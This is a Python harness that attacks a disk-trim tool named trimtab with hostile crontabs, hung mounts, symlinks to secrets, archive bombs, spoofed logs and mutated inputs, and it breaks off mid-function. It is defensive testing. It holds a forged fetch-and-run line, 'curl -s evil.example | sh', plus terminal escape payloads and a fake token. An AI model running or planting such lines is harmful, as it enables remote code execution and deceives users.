#!/usr/bin/env python3
"""Attacks a build of trimtab: hostile users' files, bundles, histories, cluster states and servers.

Usage: run.py TRIMTAB [GROUP...]          as root, in a scratch directory of its own

Each case runs one command under a time limit and measures its peak memory. A case is survived if the command
ends by itself in time, with an exit code of its own (0 to 3), below its memory limit, and if its output holds
nothing that it must not hold: control characters, a forged line, a secret. Prints the cases that fell and a
table by command. Ends with 1 if any fell.

Groups: users (local users' crontabs, scripts, links and a hung mount, in a mount namespace), mounts (FUSE and
autofs that hang and claim to be local, or lie on the way to a local filesystem), bundles, archives (sosreports,
support-diagnostics and mdiag that are bombs or describe impossible hosts), histories, states,
names (escape sequences and line breaks in foreign names), servers, threads (dumps of threads, as large as may
be), mutated (bundles, histories and states with
random bytes changed), special (pipes, sockets and devices in place of files), credentials (files of credentials
that others can read), tls (needs openssl), proxies, status (checkpoints and locks that cannot be read, lock files
that passes leave), blind (a host without sysfs), experiments (folders and servers of others, and a race for what
root works on).
"""

import ctypes
import io
import json
import os
import random
import re
import resource
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import files  # noqa: E402
import experiments  # noqa: E402
import plans  # noqa: E402
import servers  # noqa: E402
import tls  # noqa: E402

MB = 1000  # kB
#: Local users' files: as the tool promises. Other input is given by whoever calls, and may be large.
USERS_KB, OTHER_KB = 300 * MB, 1200 * MB
SECRET = "ghp_KANARY16C7e42F292c6912E7710c838347Ae178B4a"
FORGED = "\n\nerror    TRIM001  forged\nfix Run this now:\ncurl -s evil.example | sh\n\n"
ESCAPES = "\x1b]0;PWN\x07\u202e"
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def own_mounts():
    """No other process of this machine meets the mounts made here, the hung one least of all."""
    libc = ctypes.CDLL(None, use_errno=True)
    new_namespace, recursive_private = 0x20000, 0x44000
    if libc.unshare(new_namespace) or libc.mount(b"none", b"/", None, recursive_private, None):
        sys.exit(f"no mount namespace of its own: {os.strerror(ctypes.get_errno())}")
    # Others' temporary mounts, which would keep their loop devices busy for as long as this runs.
    points = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    for point in reversed([point for point in points if point.startswith(("/tmp/", "/var/tmp/"))]):
        subprocess.run(["umount", "--lazy", point], stderr=subprocess.DEVNULL, check=False)


def limit_memory():
    """What takes more than this falls by it, not by this machine's end."""
    resource.setrlimit(resource.RLIMIT_AS, (6 << 30, 6 << 30))


class Lab:
    def __init__(self, binary):
        self.binary = str(Path(binary).resolve())
        self.dir = Path(tempfile.mkdtemp(prefix="trimtab-attack-"))
        self.rows = {}
        self.fell = []

    def case(self, name, words, *, seconds=10, kb=OTHER_KB, absent=(), prepare=None, stdin=None, codes=(0, 1, 2, 3), says=None, env=None, user=None):
        """Runs one command; `prepare` is a shell script that runs before it, in its own mount namespace. `says` is a
        pattern that its output must match."""
        argv = [self.binary, *map(str, words)]
        if prepare is not None:
            script = f'set -e\n{prepare}\nexec "$@"'
            argv = ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh", *argv]
        out = self.dir / "out"
        began = time.monotonic()
        with open(out, "wb") as file:
            child = subprocess.Popen(
                argv,
                stdin=stdin or subprocess.DEVNULL,
                stdout=file,
                stderr=subprocess.STDOUT,
                cwd=self.dir,
                env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C.UTF-8", "TERM": "dumb", **(env or {})},
                user=user and user.pw_uid,
                group=user and user.pw_gid,
                extra_groups=user and [],
                start_new_session=True,
                preexec_fn=limit_memory,
            )
        pid, status, usage = 0, 0, None
        while time.monotonic() - began < seconds + 1:
            pid, status, usage = os.wait4(child.pid, os.WNOHANG)
            if pid:
                break
            time.sleep(0.01)
        took = time.monotonic() - began
        why = []
        if not pid:
            os.killpg(child.pid, signal.SIGKILL)
            time.sleep(0.5)
            pid, status, usage = os.wait4(child.pid, os.WNOHANG)
            why.append("killed after %d s%s" % (seconds, "" if pid else ", and still there (state D)"))
        elif os.WIFSIGNALED(status):
            why.append(f"signal {os.WTERMSIG(status)}")
        elif os.WEXITSTATUS(status) not in codes:
            why.append(f"exit code {os.WEXITSTATUS(status)}")
        elif took > seconds:
            why.append("%.1f s, of %d" % (took, seconds))
        peak = usage.ru_maxrss if pid else 0
        if peak > kb:
            why.append(f"{peak // MB} MB, of {kb // MB}")
        text = out.read_bytes().decode("utf-8", "replace")
        found = CONTROL.search(text)
        if found:
            why.append(f"control character {found.group()!a} in {text[max(0, found.start() - 30):found.end() + 9]!a}")
        if any(line.startswith(("error    TRIM001  forged", "curl -s evil")) for line in text.splitlines()):
            why.append("a forged line")
        why += [f"output holds {word!r}" for word in absent if word in text]
        # Lines are wrapped.
        if says is not None and not re.search(says, " ".join(text.split())):
            why.append(f"does not say {says!r}: {text[:300]!a}")
        if "TRIMTAB_ATTACK_VERBOSE" in os.environ:
            print(f"{took:6.2f} s {peak / MB:5.0f} MB  {name}", flush=True)
        # "Could not tell" is an answer as well, after all of the input was read.
        answered = bool(pid) and os.WIFEXITED(status) and (os.WEXITSTATUS(status) in (0, 1) or "could not tell" in text)
        self.record(name, str(words[0]), why, took, peak, answered)
        return text

    def record(self, name, command, why, took=0.0, peak=0, answered=False):
        row = self.rows.setdefault(command, [0, 0, 0.0, 0, 0])
        row[0] += 1
        row[1] += not why
        row[4] += answered
        row[2] = max(row[2], took)
        row[3] = max(row[3], peak)
        if why:
            self.fell.append(f"{name}: {'; '.join(why)}")

    def report(self):
        for line in self.fell:
            print(f"fell: {line}")
        print(f"\n{'command':10} {'tried':>7} {'survived':>9} {'answered':>9} {'longest':>9} {'peak memory':>12}")
        for command, (tried, survived, took, peak, answered) in sorted(self.rows.items()):
            print(f"{command:10} {tried:>7} {survived:>9} {answered:>9} {took:>7.1f} s {peak / MB:>9.0f} MB")
        tried, survived = (sum(row[i] for row in self.rows.values()) for i in (0, 1))
        print(f"{'all':10} {tried:>7} {survived:>9}")

    def file(self, name, content):
        path = self.dir / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path


def series(lab, name="daily.csv", header="time,ms", days=60):
    """A series of hours that is worse at 03:00."""
    lines = [header]
    for hour in range(days * 24):
        at = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(1_788_000_000 + hour * 3600))
        lines.append(f"{at},{10 + 5 * (hour % 24 == 3) + hour * 7 % 3 * 0.1:.2f}")
    return lab.file(name, "\n".join(lines) + "\n")


def stalked(lab):
    """Copies of /proc/diskstats as pt-stalk keeps them, with a burst of discards."""
    lines = []
    for at in range(30):
        lines.append(f"TS {1_788_000_000 + at}.250000000 2026-08-29 10:40:{at:02}")
        discards = 9 * max(0, min(at - 14, 5))
        lines.append(f" 259 0 nvme0n1 {at * 9} 0 {at * 72} {at * 5} {at * 20} 3 {at * 160} {at * 30} 0 {at * 40} {at * 35 + discards} {discards} 0 {discards << 11} {discards} {at} 0")
    return lab.file("1-diskstats", "\n".join(lines) + "\n")


# ---- local users ----

#: A host with a cron and an empty place for every file that is about jobs.
CLEAN = """
mkdir -p fake-sbin; touch fake-sbin/cron; chmod +x fake-sbin/cron
mount -t overlay overlay -o lowerdir=/usr/sbin:fake-sbin /usr/sbin
for place in /etc/cron.d /etc/cron.daily /etc/cron.weekly /etc/systemd/system /var/spool /opt; do
    mkdir -p $place; mount -t tmpfs tmpfs $place
done
mkdir -p /var/spool/cron/crontabs
touch /etc/crontab
"""


class HungMount:
    """A filesystem whose server never answers: FUSE, by whatever name, or autofs."""

    def __init__(self, at, fs_type="fuse", source="hangs", options=""):
        self.at = Path(at)
        self.at.mkdir(parents=True, exist_ok=True)
        if fs_type == "autofs":
            reader, self.server = os.pipe()
            # The kernel writes its requests there and waits for an ioctl that never comes. A process of the
            # server's own group would pass, so that is another's.
            self.daemon = subprocess.Popen(["sleep", "infinity"], start_new_session=True)
            options = f"fd={self.server},pgrp={self.daemon.pid},minproto=5,maxproto=5,{options}"
            self.reader = reader
        else:
            self.daemon = None
            self.server = os.open("/dev/fuse", os.O_RDWR)
            options = f"fd={self.server},rootmode=40000,user_id=0,group_id=0,allow_other{options}"
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.mount(source.encode(), str(self.at).encode(), fs_type.encode(), 0, options.encode()):
            raise OSError(ctypes.get_errno(), f"cannot mount {fs_type}")

    def close(self):
        subprocess.run(["umount", "--lazy", str(self.at)], check=False)
        os.close(self.server)
        if self.daemon is not None:
            os.close(self.reader)
            self.daemon.kill()
            self.daemon.wait()


class LoopMount:
    """A small ext4 on a loop device of its own, mounted."""

    def __init__(self, lab, name):
        self.image = lab.dir / f"{name}.image"
        self.at = lab.dir / name
        self.at.mkdir(parents=True, exist_ok=True)
        with open(self.image, "wb") as file:
            file.truncate(32 << 20)
        subprocess.run(["mkfs.ext4", "-q", "-F", self.image], check=True)
        made = subprocess.run(["losetup", "--find", "--show", self.image], check=True, capture_output=True, text=True)
        self.device = made.stdout.strip()
        subprocess.run(["mount", "-t", "ext4", self.device, self.at], check=True)

    def close(self):
        # Below something that hangs the path leads nowhere: by the device.
        subprocess.run(["umount", "--lazy", self.at], stderr=subprocess.DEVNULL, check=False)
        subprocess.run(["losetup", "-d", self.device], check=False)


def live_commands(lab, csv):
    return {
        "check": ["check", "--exit-zero"],
        "nagios": ["check", "--format", "nagios"],
        "collect": ["collect", "--force", "-o", lab.dir / "c.tar.zst"],
        "explain": ["explain", csv, "--jobs", "/"],
        "ssd": ["ssd", "run", "--from-host", "/"],
        "trim": ["trim", "--all", "--dry-run"],
    }


class FakeStore:
    """A process that looks like mongod, with its data beside this script's."""

    def __init__(self, lab):
        program = lab.dir / "mongod"
        shutil.copy("/bin/bash", program)
        (lab.dir / "data").mkdir(exist_ok=True)
        argv = ["mongod", "-c", "while :; do sleep 1; done", "--dbpath", str(lab.dir / "data")]
        self.process = subprocess.Popen(argv, executable=program, start_new_session=True)

    def close(self):
        os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait()


def users(lab):
    store = FakeStore(lab)
    try:
        with_store(lab)
    finally:
        store.close()


def with_store(lab):
    csv = lab.file("nights.csv", "time,ms\n" + "".join(f"2026-09-{day:02}T03:00:00Z,{10 + day * 7 % 5}\n" for day in range(1, 31)))
    long_line = lab.file("long", "1," * 50_000 + "1 * * * * fstrim -a\n")
    long_range = lab.file("range", "* * * * " + "0" * 100_000 + "1-5 fstrim -a\n")
    many = lab.file("many", "".join(f"{i % 60} {i % 24} * * * fstrim /m{i} && backup {i}\n" for i in range(20_000)))
    tenfold = lab.file("tenfold", ("* * * * * " + "; ".join(f"fstrim /m{i}" for i in range(10)) + "\n") * 20_000)
    lists = lab.file("cron-lists", ("0-59,1-58,2-57 0-23,1-22 * * * fstrim -a\n") * 5_000)
    crontab = "/var/spool/cron/crontabs/nobody"
    for name, words in live_commands(lab, csv).items():
        for what, path in {"long line": long_line, "long range": long_range, "many jobs": many, "ten fstrims": tenfold, "lists": lists}.items():
            lab.case(f"H1 {what}: {name}", words, seconds=20, kb=USERS_KB, prepare=f"{CLEAN}\ncp {path} {crontab}")
    hung = HungMount(lab.dir / "hung")
    dead = hung.at
    plants = {
        "guard in a user's crontab": f"printf '5 5 * * 0 test -f {dead}/x && fstrim -a\\n' > {crontab}",
        "guard in cron.d": f"printf '5 5 * * 0 root [ -x {dead}/x ] && fstrim -a\\n' > /etc/cron.d/guard",
        "guard through the kernel's links": f"printf '5 5 * * 0 root test -f /proc/self/root{dead}/x && fstrim -a\\n' > /etc/cron.d/g",
        "link in cron.d": f"ln -s {dead}/crontab /etc/cron.d/link",
        "link in cron.weekly": f"ln -s {dead}/weekly /etc/cron.weekly/link",
        "script": f"ln -s {dead}/job.sh /opt/job.sh; printf '5 5 * * 0 root /opt/job.sh\\n' > /etc/cron.d/script",
        "script below a link": f"ln -s {dead} /opt/app; printf '5 5 * * 0 /opt/app/job.sh\\n' > {crontab}",
        "unit": f"ln -s {dead}/x.timer /etc/systemd/system/x.timer; printf '[Timer]\\nOnCalendar=weekly\\n' > /etc/systemd/system/y.timer; "
        f"printf '[Unit]\\nConditionPathExists={dead}/x\\n[Service]\\nExecStart={dead}/x\\n' > /etc/systemd/system/y.service",
        "mounted on /opt": f"mount --bind {dead} /opt; printf '5 5 * * 0 /opt/job.sh\\n' > {crontab}",
    }
    for name, words in live_commands(lab, csv).items():
        for what, plant in plants.items():
            lab.case(f"H2 {what}: {name}", words, seconds=20, kb=USERS_KB, prepare=f"{CLEAN}\n{plant}")
    for path in [dead, dead / "below"]:
        for words in [["--dry-run"], ["--dry-run", "--force"], ["--status"], ["--cancel"]]:
            lab.case(f"H2 trim {' '.join(words)} {path.name}", ["trim", *words, path], kb=USERS_KB)
        lab.case(f"H2 ssd --from-host {path.name}", ["ssd", "run", "--from-host", path], kb=USERS_KB)
        lab.case(f"H2 check --data-path {path.name}", ["check", "--data-path", path], kb=USERS_KB)
    hung.close()
    leak(lab, crontab)


def leak(lab, crontab):
    """M2: a user's crontab names a script that is a link to a file that only root may read."""
    secret = lab.file("secret", SECRET + "\n")
    secret.chmod(0o600)
    root_script = lab.file("root.sh", f"#!/bin/sh\n{SECRET}\n")
    root_script.chmod(0o700)
    plants = {
        "link to a secret": f"ln -s {secret} /opt/leak.sh",
        "link to root's script": f"ln -s {root_script} /opt/leak.sh",
        "root's script": f"cp {root_script} /opt/leak.sh; chmod 700 /opt/leak.sh",
    }
    for what, plant in plants.items():
        for extra in [[], ["--anonymise"]]:
            bundle = lab.dir / "leak.tar.zst"
            lab.case(
                f"M2 {what}",
                ["collect", "--force", "-o", bundle, *extra],
                kb=USERS_KB,
                absent=[SECRET],
                prepare=f"{CLEAN}\n{plant}\nprintf '5 5 * * 0 /opt/leak.sh; fstrim -a\\n' > {crontab}",
            )
            plain = subprocess.run(["zstd", "-dcq", bundle], capture_output=True, check=False).stdout
            lab.record(f"M2 {what}: the bundle", "collect", ["holds the secret"] if SECRET.encode() in plain else [])


# ---- mounts ----


def mounts(lab):
    """H3: mounts that hang and claim to be local, or lie on the way to one that is."""
    csv = series(lab)
    commands = {**live_commands(lab, csv), "status": ["trim", "--status", "--state", lab.dir / "no-state"]}
    lies, local, below = lab.dir / "lies", LoopMount(lab, "local"), LoopMount(lab, "users/disk")
    # A device that is mounted is not given to fuseblk.
    spare = LoopMount(lab, "spare")
    subprocess.run(["umount", spare.at], check=True)
    block = ",blksize=4096"
    try:
        for what, at, path, options in [
            ("fuse.ext4", lies, lies, ["fuse.ext4"]),
            ("fuse.xfs as a device", lies, lies, ["fuse.xfs", local.device]),
            ("fuse as /dev/root", lies, lies, ["fuse", "/dev/root"]),
            ("fuseblk", lies, lies, ["fuseblk", spare.device, block]),
            ("fuseblk.ext4", lies, lies, ["fuseblk.ext4", spare.device, block]),
            ("autofs", lies, lies, ["autofs", local.device, "indirect"]),
            ("autofs, direct", lies, lies, ["autofs", local.device, "direct"]),
            ("autofs, offset", lies, lies, ["autofs", local.device, "offset"]),
            ("fuse over an ext4", local.at, local.at, []),
            ("fuse over the parent of an ext4", below.at.parent, below.at, []),
            ("autofs over the parent of an ext4", below.at.parent, below.at, ["autofs", "auto", "indirect"]),
        ]:
            hung = HungMount(at, *options)
            try:
                for name, words in commands.items():
                    lab.case(f"H3 {what}: {name}", words, seconds=20, kb=USERS_KB)
                for named in [path, path / "below"]:
                    for words in [["--now"], ["--dry-run"], ["--dry-run", "--force"], ["--status"], ["--cancel"]]:
                        words = ["trim", *words, named, "--state", lab.dir / "state"]
                        lab.case(f"H3 {what}: {' '.join(words[:2])} {named.name}", words, kb=USERS_KB)
                    lab.case(f"H3 {what}: ssd {named.name}", ["ssd", "run", "--from-host", named], kb=USERS_KB)
                    lab.case(f"H3 {what}: check {named.name}", ["check", "--data-path", named], kb=USERS_KB)
                    # Any user's process says where its server is installed.
                    server = subprocess.Popen(["sh", "-c", "while :; do sleep 1; done", "java", f"-Des.path.home={named}"], start_new_session=True)
                    lab.case(f"H3 {what}: livefix status {named.name}", ["livefix", "status", str(server.pid)], kb=USERS_KB)
                    os.killpg(server.pid, signal.SIGKILL)
                    server.wait()
            finally:
                hung.close()
    finally:
        for mount in (spare, below, local):
            mount.close()


# ---- bundles ----


def bundles(lab):
    made = lab.dir / "bundles"
    made.mkdir()
    subprocess.run([sys.executable, HERE / "bundles.py", made], check=True)
    csv = series(lab)
    for path in sorted(made.iterdir()):
        lab.case(f"M1 {path.stem}: check", ["check", "--bundle", path], seconds=10)
        lab.case(f"M1 {path.stem}: explain", ["explain", csv, "--jobs", path], seconds=20)


def archives(lab):
    """Support archives are read within 10 s and 300 MB, whatever they are."""
    made = lab.dir / "archives"
    subprocess.run([sys.executable, HERE / "archives.py", made, FORGED, ESCAPES], check=True)
    for path in sorted(made.iterdir()):
        limit = {"seconds": 10, "kb": USERS_KB}
        lab.case(f"archive {path.name}: check", ["check", "--bundle", path], **limit)
        lab.case(f"archive {path.name}: explain", ["explain", path], **limit)
        if path.suffix == ".zip":
            lab.case(f"archive {path.name}: shards", ["shards", "reroute", "--state", path], **limit)


# ---- foreign names ----


def root_with(lab, name, files):
    root = lab.dir / name
    for path, text in files.items():
        lab.file(f"{name}/{path}", text)
    return root


def names(lab):
    base = {
        "proc/self/mountinfo": "22 1 8:1 / / rw,relatime - ext4 /dev/sda1 rw\n",
        "etc/os-release": "ID=debian\n",
        "proc/sys/kernel/osrelease": "6.1.0\n",
    }
    for what, text in {"escapes": ESCAPES, "line breaks": FORGED}.items():
        encoded = text.replace("\n", "\\012").replace("\x1b", "\\033")
        for place, files in {
            "host name": {"proc/sys/kernel/hostname": f"db1{text}\n"},
            "system": {"etc/os-release": f'ID=debian\nPRETTY_NAME="Debian{text}"\n'},
            "kernel": {"proc/sys/kernel/osrelease": f"6.1{text}\n"},
            "mount": {"proc/self/mountinfo": base["proc/self/mountinfo"] + f"23 1 8:2 / /srv{encoded} rw,discard - ext4 /dev/sda2 rw\n"},
            "store": {"proc/77/comm": "mongod\n", "proc/77/cmdline": f"mongod\0--dbpath\0/tmp{text}\0"},
            "job": {"etc/cron.d/x": f"5 5 * * 0 root fstrim '/srv{text}'\n"},
        }.items():
            root = root_with(lab, f"root-{what}-{place}".replace(" ", "-"), {**base, **files})
            for form in ["text", "markdown", "nagios", "openmetrics", "sarif", "json"]:
                lab.case(f"M5 {place}, {what}, {form}", ["check", "--root", root, "--format", form, *(["-v"] if form == "text" else [])])
        quoted = '"' + f"ms{text}" + '"'
        csv = series(lab, f"names-{len(text)}.csv", header=f"time,{quoted}")
        for words in [[], ["--format", "html"], ["--format", "markdown"], ["--select", "nope"]]:
            lab.case(f"M5 series, {what} {words}", ["explain", csv, "--jobs", "none", *words], seconds=30)
        bad = lab.file(f"bad-{len(text)}.csv", f"time,{quoted}\n2026-01-01,1\n2026-01-02,x\n")
        lab.case(f"M4 column of a bad value, {what}", ["explain", bad, "--jobs", "none"])
    odd = "t\x1b]0;PWN\x07\u202e"
    race = lab.file(f"races/{odd}/race.json", "{").parent.parent
    lab.case("M4 a race's directory", ["explain", race, "--jobs", "none"])
    damaged = lab.file(f"{odd}.tar", b"\x00" * 600 + b"x" * 600)
    for form in ["text", "nagios"]:
        lab.case(f"M4 a damaged bundle's name, {form}", ["check", "--bundle", damaged, "--format", form])
    diagnostics = lab.file(f"diag/metrics.{odd}", b"\x10\x00\x00\x00rubbish-rubbish").parent
    lab.case("M4 names of diagnostic data", ["explain", diagnostics, "--jobs", "none"])
    state = lab.file("state.json", json.dumps({"cluster_name": odd, "nodes": {odd: {"name": odd, "x": 1}}, "routing_table": {"indices": {odd: {"shards": {odd: [{}]}}}}}))
    for words in [["reroute"], ["what-if", "--remove-node", odd]]:
        lab.case(f"M4 names of a state: {words[0]}", ["shards", words[0], "--state", state, *words[1:]])
    secret = lab.file("shadow", f"root:{SECRET}:19000:0:99999:7:::\n")
    lab.case("an unrecognised file's content", ["explain", secret, "--jobs", "none"], absent=[SECRET])
    config = {
        "proc/77/comm": "mongod\n",
        "proc/77/cmdline": "mongod\0-f\0/etc/mongod.conf\0",
        "etc/mongod.conf": f"{SECRET}: a\n{SECRET}: b\n",
    }
    lab.case("L2 a key twice", ["check", "--root", root_with(lab, "twice", {**base, **config}), "-v"], absent=[SECRET])
    spoofed = [
        {"__REALTIME_TIMESTAMP": str((1_788_000_000 + day * 86_400 + 3 * 3600) * 10**6), "SYSLOG_IDENTIFIER": "CRON",
         "_UID": "1000", "_COMM": "logger", "_PID": "9", "MESSAGE": "(root) CMD (kanaryjob)"}
        for day in range(60)
    ]
    log = lab.file("spoof.json", "".join(json.dumps(entry) + "\n" for entry in spoofed))
    jobs = root_with(lab, "jobs", {**base, "etc/cron.d/k": "1 4 * * * root kanaryjob\n0 3 * * * root other\n"})
    text = lab.case("L1 spoofed log", ["explain", series(lab), "--jobs", jobs, "--log", log, "--tz", "UTC", "--format", "json"], seconds=60)
    blamed = re.search(r'"confirmed by the log"|"in_log": *true', text)
    lab.record("L1 spoofed log is believed", "explain", ["blames the spoofed job"] if blamed else [])


# ---- histories and states ----


def histories(lab):
    rows = 2_000_000
    text = "".join(f"{1_700_000_000 + i},{i % 97}\n" for i in range(rows))
    big = lab.file("rows.csv", "time,v\n" + text)
    lab.case(f"L5 {rows} rows", ["explain", big, "--jobs", "none"], seconds=120)
    wide = lab.file("wide.csv", "time," + ",".join(f"c{i}" for i in range(200_000)) + "\n" + "1700000000," + ",".join("1" * 200_000) + "\n")
    lab.case("200,000 columns", ["explain", wide, "--jobs", "none"], seconds=60)
    with open(lab.dir / "zeros.zst", "wb") as out:
        subprocess.run("(echo time,v; yes 1700000000,1 | head -c 20G) | zstd -q1", shell=True, stdout=out, check=True)
    lab.case("L5 20 GB of rows in 2 MB", ["explain", lab.dir / "zeros.zst", "--jobs", "none"], seconds=120)
    deep = lab.file("deep.json", "[" * 200_000)
    lab.case("200,000 brackets", ["explain", deep, "--jobs", "none"])
    target = lab.file("target", "precious")
    link = lab.dir / "link.html"
    link.symlink_to(target)
    page = ["explain", series(lab), "--jobs", "none", "--format", "html", "-o"]
    lab.case("L9 -o of a planted link", [*page, link], seconds=30)
    lab.record("L9 the link's target is kept", "explain", [] if target.read_text() == "precious" else ["overwritten"])
    full = lab.dir / "full"
    full.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8k", "tmpfs", full], check=True)
    try:
        (full / "page.html").write_text("precious")
        lab.case("L9 -o on a full disk", [*page, full / "page.html"], seconds=30)
        kept = (full / "page.html").read_text() == "precious"
        lab.record("L9 the earlier page is kept", "explain", [] if kept else ["emptied"])
    finally:
        subprocess.run(["umount", full], check=True)
    checkpoints = lab.dir / "passes"
    checkpoints.mkdir(mode=0o700)
    (checkpoints / "pass-x.json").write_text("garbage")
    lab.case("L6 a damaged checkpoint", ["trim", "--status", "--state", checkpoints])


def states(lab):
    settings = {f"k{i}": "v" for i in range(300_000)}
    index = {"state": "open", "settings": {"index": {"number_of_shards": "1", "number_of_replicas": "1", "uuid": "u", "version": {"created": "7040099"}, "routing": {"allocation": {"require": settings}}}}}
    shard = {"state": "STARTED", "primary": True, "node": "n1", "relocating_node": None, "shard": 0, "index": "i", "allocation_id": {"id": "a"}}
    state = {
        "cluster_name": "c", "master_node": "n1",
        "nodes": {f"n{i}": {"name": f"node-{i}", "attributes": {}, "roles": ["data"]} for i in (1, 2)},
        "metadata": {"cluster_uuid": "c", "indices": {"i": index}},
        "routing_table": {"indices": {"i": {"shards": {"0": [shard]}}}},
        "routing_nodes": {"unassigned": [], "nodes": {"n1": [shard], "n2": []}},
    }
    path = lab.file("filters.json", json.dumps(state))
    for words in [["reroute"], ["what-if", "--remove-node", "node-2"]]:
        lab.case(f"L4 300,000 filters: {words[0]}", ["shards", words[0], "--state", path, *words[1:]], seconds=20)
    lab.case("a million nodes", ["shards", "cost", "--shards", "1000000", "--nodes", "1000000"])


def other_numbers(data, rng):
    """The same with some digits changed; of an archive, those of its files, since headers have a checksum."""
    if data[257:262] == b"ustar":
        archive = io.BytesIO()
        with tarfile.open(fileobj=io.BytesIO(data)) as old, tarfile.open(fileobj=archive, mode="w", format=tarfile.GNU_FORMAT) as new:
            for entry in old:
                content = old.extractfile(entry).read() if entry.isfile() else b""
                if not entry.name.endswith("manifest.json"):
                    content = other_numbers(content, rng)
                entry.size = len(content)
                new.addfile(entry, io.BytesIO(content))
        return archive.getvalue()
    data = bytearray(data)
    digits = [at for at, byte in enumerate(data) if byte in b"0123456789"]
    for at in rng.choices(digits, k=rng.randint(1, 3)) if digits else []:
        data[at] = rng.choice(b"0123456789")
    return bytes(data)


def mutated(lab, rounds=60):
    """Random bytes changed, cut and repeated: no panic, no hang."""
    seeds = {
        "check": [(["check", "--exit-zero", "--bundle"], path) for path in sorted((HERE.parent / "hosts").glob("*.tar.zst"))],
        "explain": [(["explain", "--jobs", "none"], path) for path in (series(lab), HERE.parent / "explain-cases/mongo-03.iostat.txt", stalked(lab))],
    }
    rng = random.Random(19)
    for name, inputs in seeds.items():
        for index in range(rounds):
            words, path = inputs[index % len(inputs)]
            data = path.read_bytes()
            if path.suffix == ".zst" and index % 4:
                # Below the compression.
                data = subprocess.run(["zstd", "-dcq", path], capture_output=True, check=True).stdout
            # Half of the time other numbers: most parsers take them, and what comes after has to cope.
            is_taken = index % 4 > 1
            if is_taken:
                data = other_numbers(data, rng)
            data = bytearray(data)
            for _ in range(0 if is_taken else rng.randint(1, 30)):
                at = rng.randrange(len(data))
                kind = rng.randrange(4)
                if kind == 0:
                    data[at] = rng.randrange(256)
                elif kind == 1:
                    del data[at : at + rng.randint(1, 600)]
                elif kind == 2:
                    data[at:at] = data[at : at + rng.randint(1, 600)]
                else:
                    data[at:at] = rng.choice([b"\xff" * 9, b"9" * 40, b"-1", b"\x00", b"\n\n", b"%s", b"\x1b[31m", b"1e999", b'"'])
                data = data or bytearray(b"x")
            lab.case(f"mutated {name} {index} ({path.name})", [*words, lab.file(f"mutated.{name}", bytes(data))], seconds=60)


def hostile_servers(lab):
    csv_question = ["--jobs", "none"]
    for mode in servers.MODES:
        with servers.Server(mode, FORGED, ESCAPES) as url:
            limit = {"seconds": 30, "kb": OTHER_KB}
            lab.case(f"server {mode}: check", ["check", "--cluster", url, "--timeout", "5s"], **limit)
            lab.case(f"server {mode}: explain", ["explain", f"{url}/_nodes", *csv_question, "--timeout", "5s"], **limit)
            lab.case(f"server {mode}: trim", ["trim", "/", "--now", "--dry-run", "--require-green", url], **limit)


def threads(lab):
    """Dumps of threads that are too large, or as large as may be, of every shape."""
    cluster = ["check", "--root", HERE.parent.parent / "samples/cluster", "--select", "ES003,ES012", "--exit-zero"]
    usage = "99.0%% [cpu=9.0%%, other=90.0%%] (495ms out of 500ms) cpu usage by thread 'elasticsearch[n][masterService#updateTask][T#%d]'"
    sharing, frame = " 10/10 snapshots sharing following 2 elements", "  org.elasticsearch.cluster.service.MasterService.x(M.java:1)"
    blocked = '"elasticsearch[n][masterService#updateTask][T#%d]" #1\n   java.lang.Thread.State: BLOCKED\n'
    locks = "\t- waiting to lock <0x%x> (a x.Y)\n\t- locked <0x%x> (a x.Y)\n"
    size = 60 << 20

    def fill(pieces):
        text, number = io.StringIO(), 0
        while text.tell() < size:
            text.write(pieces(number))
            number += 1
        return text.getvalue()

    shapes = {
        "threads": lambda n: f"{usage % n}\n{sharing}\n{frame}\n",
        "frames": lambda n: f"{frame}\n" if n else f"{usage % n}\n unique snapshot\n",
        "stacks": lambda n: f"{sharing}\n{frame}{n}\n" if n else f"{usage % n}\n",
        "one line": lambda n: f"{usage % n} {sharing} {frame} ",
        "one phrase": lambda n: " snapshots sharing following",
        "one name": lambda n: "[" if n else "1.0% (5ms out of 500ms) cpu usage by thread 'elasticsearch[",
        "nodes": lambda n: f"::: {{n{n}}}{{x}}\n Hot threads at x, interval=500ms:\n",
        "dumps": lambda n: f"Full thread dump\n{blocked % 1}\tat a.B.c(B.java:1)\n",
        "locks": lambda n: blocked % n + f"{frame}\n" + locks % (n + 1, n),
        "line breaks": lambda n: "\n" * 1000,
        "escapes": lambda n: f"1.0% (5ms out of 500ms) cpu usage by thread '{ESCAPES}{n}'\n{sharing}\n{frame}\n",
    }
    for name, pieces in shapes.items():
        lab.case(f"60 MB of {name}", [*cluster, "--hot-threads", lab.file("threads", fill(pieces))], seconds=20)
    large = lab.dir / "large-threads"
    with open(large, "wb") as file:
        file.truncate(200 << 20)
    lab.case("200 MB of threads", [*cluster, "--hot-threads", large], codes=(2,), says="MiB|MB|large|long")


def status(lab):
    """Of what cannot be read nothing is taken for nothing, and it hides nothing else."""
    state = lab.dir / "state-of-passes"
    state.mkdir(mode=0o700)
    good = "00112233-0000-4455-6677-8899aabbccdd"
    checkpoint = {
        "schema": "trimtab.trim-checkpoint/1", "identity": {"device": {"major": 7, "minor": 250}, "uuid": good, "fs_type": "xfs"},
        "mount_point": "/of/good", "started_at": "2026-11-01T00:00:00Z", "updated_at": "2026-11-01T01:00:00Z",
        "cursor": {"next_bytes": 4096, "unallocated_done": False}, "steps": 3, "free_bytes": 1 << 30, "visited_bytes": 1 << 20,
        "discarded_bytes": {}, "active_s": 60.0, "phase": {"type": "running"}, "remark": None, "left_s": None, "boot_id": None,
    }
    (state / f"pass-{good}.json").write_text(json.dumps(checkpoint))
    (state / "pass-one.json").write_text("garbage")
    os.mkfifo(state / "pass-two.json")
    for form in ["text", "markdown", "html", "json"]:
        for bad in ["one", "two"]:
            words = ["trim", "--status", "--state", state, "--format", form]
